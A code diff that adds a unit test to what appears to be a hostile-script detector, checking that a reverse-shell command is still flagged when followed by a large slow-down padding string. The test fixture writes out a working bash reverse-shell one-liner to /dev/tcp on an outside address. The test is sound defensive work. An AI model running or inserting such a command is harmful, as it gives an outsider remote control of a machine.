@@ -145,6 +145,12 @@ def test_an_act_is_found_in_the_middle_of_a_long_text() -> None:
     assert [finding.trait for finding in findings] == ["script-reverse-shell"]
 
 
+def test_a_text_that_is_made_to_be_slow_is_searched_at_its_beginning_all_the_same() -> None:
+    _, findings = scripts.read(b"bash -i >& /dev/tcp/203.0.113.7/443\n" + b"mkfifo |" * 2_000_000)
+
+    assert "script-reverse-shell" in {finding.trait for finding in findings}
+
+
 @pytest.mark.parametrize(
     ("text", "lines", "longest"), [(b"", 0, 0), (b"ab", 1, 2), (b"ab\n", 1, 2), (b"a\nlong\n\nb", 4, 4)]
 )
